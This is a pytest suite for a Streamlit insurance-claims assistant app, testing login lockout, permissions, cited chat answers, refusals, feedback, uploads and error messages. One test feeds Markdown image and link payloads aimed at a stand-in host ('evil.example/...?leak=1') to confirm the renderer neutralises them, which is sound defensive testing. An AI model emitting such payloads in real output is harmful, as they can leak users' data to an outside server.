"""The Streamlit app through AppTest (the real script, real widgets): login, permissions, chat turns of every
outcome (the verified answer with its quoted units, the documents' own words, the record, the refusal) with their
details and sources, feedback, conversations, upload + ingest, users, errors shown as messages.
The chat turns' model is scripted (assistant.backends.scripted: what it writes is what is tested) over a real
knowledge base, tools and audit; the other tests use the tiny Qwen3 with the chain adapter from
tests/chain_env.py (the data home is a copy)."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path
from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from assistant.app import conversations
from assistant.app.users import DEMO_USERS, ensure_demo_users
from assistant.backends.scripted import ScriptedChat
from core.feedback import connect, list_feedback
from core.settings import Settings, load_settings
from finetune.data import load_datasets
from ingest import pipeline
from tests.chain_env import CHAIN_ENV_VARS, Q_RAG, Q_TOOL
from ui.testing import REFUSE, cite

APP = str(Path(__file__).resolve().parent.parent / "ui" / "app.py")
PASSWORDS = {name: pw for name, pw, _, _ in DEMO_USERS}


@pytest.fixture(scope="module")
def ui_home(chain_env: dict, tmp_path_factory: pytest.TempPathFactory) -> Path:
    home = tmp_path_factory.mktemp("ui") / "home"
    shutil.copytree(chain_env["settings"].home, home)
    ensure_demo_users(home / "app.db")
    return home


@pytest.fixture
def ui_env(ui_home: Path, chain_env: dict, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    env = {"ASSISTANT_HOME": str(ui_home), "ASSISTANT_MODEL": str(chain_env["tiny"]),
           "ASSISTANT_MAX_NEW_TOKENS": "48", "ASSISTANT_RETRIEVAL_K": "2",
           **CHAIN_ENV_VARS}
    for k, v in env.items():
        monkeypatch.setenv(k, v)
    return {"home": ui_home, "db": ui_home / "app.db", "env": env}


CLAIMS_MD = ("# 理赔规则\n\n## 第一条 报案\n\n出险后十日内拨打 95500-88 报案。\n\n## 第二条 材料\n\n申请保险金时须提供下列材料：\n\n"
             "| 项目 | 材料 |\n|---|---|\n| 身故 | 死亡证明 |\n| 伤残 | 伤残鉴定书 |\n")


@pytest.fixture(scope="module")
def scripted_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A real knowledge base (a clause and a table), the demo accounts; the business database comes on first use."""
    root = tmp_path_factory.mktemp("scripted")
    (root / "docs").mkdir()
    (root / "docs" / "claims.md").write_text(CLAIMS_MD, encoding="utf-8")
    pipeline.add_paths(Settings(home=root / "home"), [root / "docs"])
    ensure_demo_users(root / "home" / "app.db")
    return root / "home"


@pytest.fixture
def scripted(scripted_home: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """The app whose model is scripted: set its replies for the next question with `script`. Everything else (the
    retrieval, tools, verification, composition, the audit, the saved conversations) is real."""
    from assistant.chain import build_assistant
    from ui import state

    monkeypatch.setenv("ASSISTANT_HOME", str(scripted_home))
    chat = ScriptedChat(replies=[REFUSE])
    assistant = build_assistant(load_settings(), chat=chat)
    monkeypatch.setattr(state, "assistant", lambda settings: assistant)
    return {"chat": chat, "assistant": assistant, "home": scripted_home, "db": scripted_home / "app.db"}


def script(env: dict[str, Any], *replies: Any) -> None:
    """The model's replies to the next question, one per model turn."""
    env["chat"].replies[:] = list(replies)
    env["chat"].seen.clear()


def plain(markdown: str) -> str:
    """The text a literal-text Markdown string (ui.safe_markdown) shows on screen."""
    return re.sub(r"\\(.)", r"\1", markdown).replace("\u2060", "").replace("  \n", "\n")


def login(name: str, password: str | None = None) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=120).run()
    at.text_input(key="login_name").input(name)
    at.text_input(key="login_password").input(password or PASSWORDS[name])
    at.button(key="login").click().run()
    assert not at.exception, at.exception
    return at


def ask(at: AppTest, question: str) -> AppTest:
    at.chat_input(key="question").set_value(question).run()
    assert not at.exception, at.exception
    return at


def last_answer(at: AppTest) -> Any:
    return [m for m in at.chat_message if m.name == "assistant"][-1]


def shown(msg: Any) -> str:
    """Everything an answer shows (its text, quotes, captions, expander labels and contents), as plain text."""
    parts = [plain(e.value) for kind in ("markdown", "caption", "code") for e in getattr(msg, kind)]
    parts += [plain(e.label) for e in msg.expander]
    return "\n".join(parts)


def details(msg: Any) -> Any:
    return next(e for e in msg.expander if e.label == "Answer details")


def test_login_checks_the_hashed_password(ui_env: dict) -> None:
    at = AppTest.from_file(APP, default_timeout=60).run()
    assert at.title[0].value == "Domain assistant" and not at.sidebar.radio
    at.text_input(key="login_name").input("wang.staff")
    at.text_input(key="login_password").input("not-the-password")
    at.button(key="login").click().run()
    assert [e.value for e in at.error] == ["Wrong user name or password."] and "account" not in at.session_state
    at.text_input(key="login_password").input(PASSWORDS["wang.staff"])
    at.button(key="login").click().run()
    assert at.session_state["account"].name == "wang.staff"
    with connect(ui_env["db"]) as conn:  # SQLite's file or PostgreSQL's schema, whichever the test runs on
        stored = conn.execute("SELECT password_hash FROM users WHERE name = 'wang.staff'").fetchone()[0]
    assert stored.startswith("scrypt$") and PASSWORDS["wang.staff"] not in stored


def test_repeated_wrong_passwords_lock_the_login_for_a_while(ui_env: dict, tmp_path: Path,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    own = tmp_path / "home"  # the lock is kept in the database: lock an admin no other test logs in as
    ensure_demo_users(own / "app.db")
    monkeypatch.setenv("ASSISTANT_HOME", str(own))
    at = AppTest.from_file(APP, default_timeout=60).run()
    at.text_input(key="login_name").input("admin")
    for _ in range(5):
        at.text_input(key="login_password").input("guess-guess").run()
        at.button(key="login").click().run()
        assert at.error[0].value == "Wrong user name or password."
    at.text_input(key="login_password").input(PASSWORDS["admin"])
    at.button(key="login").click().run()  # even the right password waits out the lockout
    assert at.error[0].value.startswith("Too many failed attempts") and "account" not in at.session_state


def test_admin_pages_are_hidden_from_staff(ui_env: dict) -> None:
    staff = login("wang.staff")
    assert not staff.sidebar.radio  # chat only: no page switcher, no knowledge base / adapters / users
    assert "Adapter" not in [s.label for s in staff.sidebar.selectbox]
    admin = login("admin")
    # Material Symbols (a font Streamlit serves), never emoji: those showed as empty boxes without an emoji font
    assert admin.sidebar.radio(key="page").options == [":material/chat: Chat", ":material/library_books: Knowledge base",
                                                      ":material/extension: Adapters", ":material/group: Users"]
    assert "Adapter" in [s.label for s in admin.sidebar.selectbox]


def test_chat_turn_shows_the_tool_trace_and_cited_sources(scripted: dict) -> None:
    """A look-up (the record the question names is looked up before the model writes) and a documents answer:
    each the model's words with their [n] marks, the units they rest on quoted with their citations, the sources
    (the passage, the file), the details (the verdict, the tool calls, the timings); saved and shown again alike."""
    script(scripted, cite("get_policy_status(POL-2024-0001)", "保单有效。"))
    at = ask(login("wang.staff"), Q_TOOL)
    assert len([m for m in at.chat_message if m.name == "assistant"]) == 1
    msg = last_answer(at)
    assert plain(msg.markdown[0].value) == "保单有效。 [1]"
    record = plain(msg.markdown[1].value)
    assert record.startswith("> get_policy_status(POL-2024-0001)") and "active" in record  # the record, quoted
    assert plain(msg.caption[0].value) == '[1] tool get_policy_status · {"policy_id": "POL-2024-0001"}'
    assert "Sources" not in shown(msg)  # a record is no document: nothing to open
    trace = details(msg)
    line = next(plain(m.value) for m in trace.markdown if "get_policy_status" in plain(m.value))
    assert '"policy_id": "POL-2024-0001"' in line and "→ ok" in line
    assert '"status": "active"' in trace.code[0].value
    assert "verified" in plain(trace.markdown[0].value) and "Time:" in shown(trace)

    at.sidebar.button(key="new_conv").click().run()  # a second conversation: no history from the first
    script(scripted, cite("十日内拨打", "出险后十日内报案。"))
    ask(at, Q_RAG)  # answered from the knowledge base with a citation
    last = last_answer(at)
    assert plain(last.markdown[0].value) == "出险后十日内报案。 [1]"
    assert plain(last.markdown[1].value).strip() == "> 出险后十日内拨打 95500-88 报案。"  # the unit, literally
    assert plain(last.caption[0].value) == "[1] claims.md · 第一条 报案"
    assert "checked against the cited documents" in plain(last.caption[-1].value)  # what was shown, said under it
    cited = next(e for e in last.expander if plain(e.label) == "[1] claims.md · 第一条 报案")
    assert "出险后十日内拨打 95500-88 报案" in plain(cited.markdown[0].value)  # the cited passage, shown literally
    assert [b.label for b in cited.get("download_button")] == ["Open the file"]
    # persisted: a reload (new session, same user) shows the same conversation with its payloads
    rag, tool = conversations.list_for(scripted["db"], "wang.staff")[:2]  # newest first
    assert (rag.title, tool.title) == (Q_RAG, Q_TOOL)
    saved = conversations.messages(scripted["db"], tool.id, "wang.staff")
    assert [m["role"] for m in saved] == ["user", "assistant"]
    assert saved[1]["payload"]["tool_calls"][0]["name"] == "get_policy_status"
    assert saved[1]["payload"]["outcome"] == "answer" and saved[1]["payload"]["lead"] == "保单有效。 [1]"
    again = login("wang.staff")  # opens the newest conversation
    assert [m.name for m in again.chat_message] == ["user", "assistant"]
    assert shown(again.chat_message[1]) == shown(last)
    assert [b.label for b in again.sidebar.button if b.key.startswith("conv_")][:2] == [Q_RAG, Q_TOOL]


def test_each_outcome_shows_what_stands_and_nothing_else(scripted: dict) -> None:
    """A verified answer: the model's words, the unit quoted with its citation. An answer that fails verification:
    the title "资料原文：" over the documents' unit, none of the model's words. A refusal: the sentence alone, no
    quotes, no sources. A table row is quoted under its header row; a follow-up shows the question searched."""
    at = login("wang.staff")
    at.sidebar.button(key="new_conv").click().run()
    script(scripted, cite("十日内拨打", "出险后十日内报案。"))
    msg = last_answer(ask(at, "出险后几天内报案？"))
    assert plain(msg.markdown[0].value) == "出险后十日内报案。 [1]"
    assert plain(msg.markdown[1].value).strip() == "> 出险后十日内拨打 95500-88 报案。"
    assert plain(msg.caption[0].value) == "[1] claims.md · 第一条 报案"
    assert not msg.warning and not msg.error  # no banner in front of an answer

    at.sidebar.button(key="new_conv").click().run()
    script(scripted, cite("十日内拨打", "出险后两天内报案。"))  # 两天: no cited unit says it
    msg = last_answer(ask(at, "出险后几天内报案？"))
    assert plain(msg.markdown[0].value) == "**资料原文：**"
    assert plain(msg.markdown[1].value).strip() == "> 出险后十日内拨打 95500-88 报案。"
    assert plain(msg.caption[0].value) == "[1] claims.md · 第一条 报案"
    assert "两天内报案" not in shown(msg)  # the model's words are nowhere on screen (the audit keeps them)
    assert not msg.warning and "the documents' own words" in plain(msg.caption[-1].value)
    verdict = shown(details(msg))
    assert "failed" in verdict and "figures in no cited unit" in verdict  # why, in the collapsed details
    assert not details(msg).proto.expanded

    at.sidebar.button(key="new_conv").click().run()
    script(scripted, REFUSE)
    msg = last_answer(ask(at, "出险后几天内报案？"))
    assert plain(msg.markdown[0].value) == "抱歉，现有资料中没有找到这个问题的答案。"
    assert not any(m.value.startswith(">") for m in msg.markdown)  # nothing quoted
    assert "Sources" not in shown(msg) and not list(msg.get("download_button"))
    assert [e.label for e in msg.expander] == ["Answer details"] and "95500" not in shown(msg)

    at.sidebar.button(key="new_conv").click().run()
    script(scripted, cite("死亡证明", "身故须提供死亡证明。"))
    msg = last_answer(ask(at, "身故理赔需要什么材料？"))
    assert plain(msg.markdown[0].value) == "身故须提供死亡证明。 [1]"
    rows = msg.markdown[1].value.splitlines()  # a small table is one unit: quoted whole, cells literal
    assert [plain(x) for x in rows] == ["> | 项目 | 材料 |", "> |---|---|", "> | 身故 | 死亡证明 |",
                                        "> | 伤残 | 伤残鉴定书 |"]
    assert plain(msg.caption[0].value) == "[1] claims.md · 第二条 材料"
    rewrite = '{"complete":false,"question":"伤残理赔需要什么材料？"}'
    script(scripted, rewrite, cite("伤残鉴定书", "伤残须提供伤残鉴定书。"))
    msg = last_answer(ask(at, "那伤残呢？"))
    assert plain(msg.markdown[0].value) == "伤残须提供伤残鉴定书。 [1]"
    assert "**Searched as:** 伤残理赔需要什么材料？" in shown(details(msg))


def test_answers_saved_by_the_previous_release_still_show(scripted: dict) -> None:
    """A turn saved before the structured answer path (no lead, no outcome): its `answer` as it was shown then,
    its '> words [n]' lines as quotes, its tool trace and sources."""
    db = scripted["db"]
    conv = conversations.create(db, "wang.staff", "old")
    payload = {"answer": "模型的回答未能在资料中得到印证：\n\n> 出险后十日内拨打 95500-88 报案。 [1]",
               "sources": [{"n": 1, "source": "claims.md", "page": None, "clause": "第一条 报案",
                            "text": "出险后十日内拨打 95500-88 报案。", "chunk_id": "", "doc_id": ""}],
               "tool_calls": [{"name": "calculator", "arguments": {"expression": "1+1"}, "result": {"result": 2},
                               "error": None, "denied": False, "duration_s": 0.01}],
               "latency_s": 1.0, "kb": "default"}
    conversations.add_turn(db, conv.id, "wang.staff", "几天内报案？", payload["answer"], payload)
    msg = last_answer(login("wang.staff"))
    text = msg.markdown[0].value
    assert "\n> 出险后十日内拨打" in text and "> 出险后十日内拨打 95500-88 报案。 [1]" in plain(text)  # a quote
    assert [plain(e.label) for e in msg.expander] == ["Tools: calculator", "[1] claims.md · 第一条 报案"]
    conversations.delete(db, conv.id, "wang.staff")


def test_feedback_is_stored_with_the_turn_and_is_training_data(ui_env: dict, tmp_path: Path) -> None:
    at = ask(login("li.claims"), Q_RAG)
    payload = conversations.messages(ui_env["db"], conversations.list_for(ui_env["db"], "li.claims")[0].id,
                                     "li.claims")[-1]["payload"]
    audit_id = payload["audit_id"]
    at.feedback(key=f"thumbs_{audit_id}").set_value(0).run()  # thumbs down
    rows = [r for r in list_feedback(ui_env["db"]) if r["audit_id"] == audit_id]
    assert len(rows) == 1 and rows[0]["rating"] == -1 and rows[0]["user"] == "li.claims"
    at.text_input(key=f"comment_{audit_id}").input("missing the phone number")
    at.text_area(key=f"correction_{audit_id}").input("出险后十日内拨打 95500-88 报案 [1]。")
    at.button(key=f"fbsave_{audit_id}").click().run()
    row = next(r for r in list_feedback(ui_env["db"]) if r["audit_id"] == audit_id)
    assert row["rating"] == -1 and row["comment"] == "missing the phone number"
    assert row["correction"].startswith("出险后十日内") and row["adapter"] == "claims@v1"
    # the stored example is the chain's exact prompt, loadable by the fine-tuning data loader
    example = row["example"]
    users = [m for m in example["messages"] if m["role"] == "user"]
    assert example["messages"][0]["role"] == "system" and "95500-88" in users[-1]["content"]  # the passages
    # exactly as the model was sent it (issue 11): the recorded transcript, ending with the model's structured
    # reply; the tools it may call are described in the rules, as served
    assert example["messages"] == payload["transcript"] and example["messages"][-1]["role"] == "assistant"
    assert users[-1]["content"].endswith(f"问题：{Q_RAG}")  # after the numbered units
    assert "get_policy_status(" in example["messages"][0]["content"]
    f = tmp_path / "fb.jsonl"
    f.write_text(json.dumps(example, ensure_ascii=False) + "\n", encoding="utf-8")
    assert len(load_datasets([f])[0].conversations) == 1
    # a reload shows the saved thumbs
    again = login("li.claims")
    assert again.feedback(key=f"thumbs_{audit_id}").value == 0


def test_conversations_new_rename_delete(ui_env: dict) -> None:
    at = login("wang.staff")
    before = len(conversations.list_for(ui_env["db"], "wang.staff"))
    at.sidebar.button(key="new_conv").click().run()
    convs = conversations.list_for(ui_env["db"], "wang.staff")
    assert len(convs) == before + 1 and at.session_state["conv"] == convs[0].id
    at.sidebar.text_input(key=f"title_{convs[0].id}").input("Renewals")
    at.sidebar.button(key="rename_conv").click().run()
    assert conversations.list_for(ui_env["db"], "wang.staff")[0].title == "Renewals"
    assert at.header[0].value == "Renewals"
    at.sidebar.button(key="delete_conv").click().run()
    assert len(conversations.list_for(ui_env["db"], "wang.staff")) == before
    assert not at.exception


def test_upload_ingests_good_files_and_reports_bad_ones(ui_env: dict) -> None:
    at = login("admin")
    at.sidebar.radio(key="page").set_value("Knowledge base").run()
    at.text_input(key="kb_new").input("uploads").run()
    at.file_uploader(key="kb_files").set_value([
        ("renewals.md", "# 续保\n\n## 第一条 续保期限\n\n保单到期前三十日内可申请续保。\n".encode(), "text/markdown"),
        ("broken.pdf", b"%PDF-1.4 this is not really a pdf", "application/pdf"),
    ]).run()
    at.button(key="kb_ingest").click().run()
    assert not at.exception, at.exception
    assert [w.value for w in at.warning] == ["1 added or updated, 0 unchanged, 1 failed"]
    result = at.dataframe[0].value
    assert dict(zip(result["file"], result["result"], strict=True)) == {"renewals.md": "added", "broken.pdf": "failed"}
    assert result.loc[result["file"] == "broken.pdf", "problem"].iloc[0]  # the reason is shown
    docs = pipeline.list_documents(pipeline.Settings(home=ui_env["home"]), "uploads")
    assert [d["source"] for d in docs] == ["renewals.md"] and docs[0]["chunks"] >= 1
    # kept under a folder of its own, so a later file of the same name cannot overwrite it
    stored = sorted((ui_env["home"] / "uploads" / "uploads").glob("*/*"))
    assert sorted(p.name for p in stored) == ["broken.pdf", "renewals.md"] and stored[0].parent != stored[1].parent
    assert docs[0]["path"] == str(next((ui_env["home"] / "uploads" / "uploads").glob("*/renewals.md")))


def test_admin_adds_a_user_who_can_then_log_in(ui_env: dict) -> None:
    at = login("admin")
    at.sidebar.radio(key="page").set_value("Users").run()
    at.text_input(key="new_user_name").input("zhao.finance")
    at.text_input(key="new_user_password").input("short")
    at.selectbox(key="new_user_role").set_value("finance")
    at.button(key="add_user").click().run()
    assert "too short" in at.error[0].value
    at.text_input(key="new_user_password").input("finance-pass-1")
    at.text_input(key="new_user_dept").input("finance")
    at.button(key="add_user").click().run()
    assert "zhao.finance" in list(at.dataframe[0].value["user"])
    assert login("zhao.finance", "finance-pass-1").session_state["account"].role == "finance"


def test_errors_are_messages_not_tracebacks(ui_env: dict, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    empty = tmp_path / "empty-home"
    ensure_demo_users(empty / "app.db")
    monkeypatch.setenv("ASSISTANT_HOME", str(empty))  # no knowledge base ingested yet
    at = ask(login("wang.staff"), Q_RAG)
    msg = [m for m in at.chat_message if m.name == "assistant"][-1]
    assert "knowledge base 'default' is empty" in msg.warning[0].value
    assert "ingest add PATH --kb default" in msg.warning[0].value
    monkeypatch.setenv("ASSISTANT_MODEL", str(tmp_path / "no-such-model"))
    at = ask(login("wang.staff"), Q_RAG)
    assert at.error and at.error[0].value.startswith("The model is not loaded")
    assert "scripts/setup.sh --model" in at.error[0].value


def _render_answer(payload: dict) -> None:  # an AppTest script: one saved answer, drawn as the chat draws it
    from ui import answer_view

    answer_view.answer(payload, key="t")


def test_the_details_say_what_became_of_each_tool_call() -> None:
    """Every call the model attempted is in the collapsed details with its status (one dropped by the answer path
    included) and its record or its error; the verdict's reasons and where the time went are there too."""
    calls = [{"name": "get_policy_status", "arguments": {"policy_id": "POL-2024-0001"}, "ok": True,
              "status": "ok", "result": {"status": "active"}, "error": None, "denied": False, "duration_s": 0.012},
             {"name": "calculator", "arguments": {"expression": "(3000 - 100) * 0.9"}, "ok": False,
              "status": "dropped", "result": None, "error": "uses no figure of the question", "denied": False,
              "duration_s": 0.0},
             {"name": "draft_email", "arguments": {"to": "x@corp.example"}, "ok": False, "result": None,
              "error": "not permitted", "denied": True, "duration_s": 0.0}]  # saved without a status
    unit = {"n": 1, "unit": 4, "source": "get_policy_status", "page": None, "page_label": None, "clause": None,
            "text": "get_policy_status(POL-2024-0001): status: active", "header": None, "kind": "tool",
            "chunk_id": "", "doc_id": "", "path": None}
    payload = {"outcome": "tool_result", "lead": "查询结果：", "answer": "查询结果：\n\n> ... [1]", "sources": [unit],
               "verification": {"status": "failed", "reasons": ["figures in no cited unit: 2023-01-01"]},
               "tool_calls": calls, "question": "保单 POL-2024-0001 的状态？", "standalone": "保单 POL-2024-0001 的状态？",
               "timings": {"retrieval": 0.2, "generation": 1.5}, "latency_s": 1.8, "first_token_s": 0.6}
    at = AppTest.from_function(_render_answer, args=(payload,)).run()
    assert not at.exception, at.exception
    assert plain(at.markdown[0].value) == "**查询结果：**" and "status: active" in plain(at.markdown[1].value)
    assert plain(at.caption[0].value) == '[1] tool get_policy_status · {"policy_id": "POL-2024-0001"}'
    assert "**Sources**" not in [m.value for m in at.markdown]  # a record is no document
    (box,) = at.expander
    assert box.label == "Answer details" and not box.proto.expanded
    lines = [plain(m.value) for m in box.markdown]
    assert "- figures in no cited unit: 2023-01-01" in lines
    assert not any(line.startswith("**Searched as:**") for line in lines)  # asked as searched: not repeated
    assert [line.split("→ ")[1].split(" ·")[0] for line in lines if "→" in line] == ["ok", "dropped", "denied"]
    assert '"error": "uses no figure of the question"' in box.code[1].value
    assert "retrieval 0.20 s · generation 1.50 s" in " ".join(lines)
    assert "the record as the look-up returned it" in plain(at.caption[-1].value)


def test_quoted_units_show_as_block_quotes_of_literal_text() -> None:
    """A quoted unit is a Markdown block quote of its literal text (a table row: a one-row table under its header,
    every cell literal); in an answer saved as plain text, the line "> the unit's words [n]" is a block quote too
    (the '>' was shown as a stray character before), its words still literal; any other line starting with '>'
    keeps it."""
    from markdown_it import MarkdownIt

    from ui.answer_view import _quoted
    from ui.safe_markdown import text

    render = MarkdownIt("commonmark").enable("table").render
    hostile = "十日内通知保险人 ![x](http://evil.example/a.png?leak=1) <img src=x> [y](http://evil.example)"
    html = render(_quoted({"n": 3, "kind": "sentence", "text": hostile}))
    assert html.startswith("<blockquote>") and "十日内通知保险人" in html and "evil.example" in html
    assert "<img" not in html and "<a " not in html
    row = render(_quoted({"n": 1, "kind": "row", "header": "| 项目 | 材料 |",
                          "text": "| 身故 ![x](http://evil.example/b.png) | <b>死亡证明</b> |"}))
    assert re.search(r"<blockquote>\s*<table>", row) and "<th>项目</th>" in row and row.count("<td>") == 2
    assert "<img" not in row and "<b>" not in row and "&lt;b&gt;死亡证明" in row
    odd = render(_quoted({"n": 1, "kind": "row", "header": "项目 材料", "text": "| 身故 |"}))  # not a table: lines
    assert "<table>" not in odd and "项目 材料" in odd and "| 身故 |" in odd

    answer = ("资料原文：\n\n"
              "> 第九条 …十日内通知保险人 ![x](http://evil.example/a.png?leak=1) [3]\nnext line")
    html = MarkdownIt("commonmark").render(text(answer))
    quote = re.search(r"<blockquote>(.*?)</blockquote>", html, re.S)
    assert quote and "十日内通知保险人" in quote.group(1) and "[3]" in quote.group(1)
    assert "<img" not in html and "next line" not in quote.group(1)  # literal inside, and the quote ends
    assert "<blockquote>" not in MarkdownIt("commonmark").render(text("> 300,000 needs the Head of Claims"))
    assert plain(text("> 300,000 needs the Head of Claims")) == "> 300,000 needs the Head of Claims"
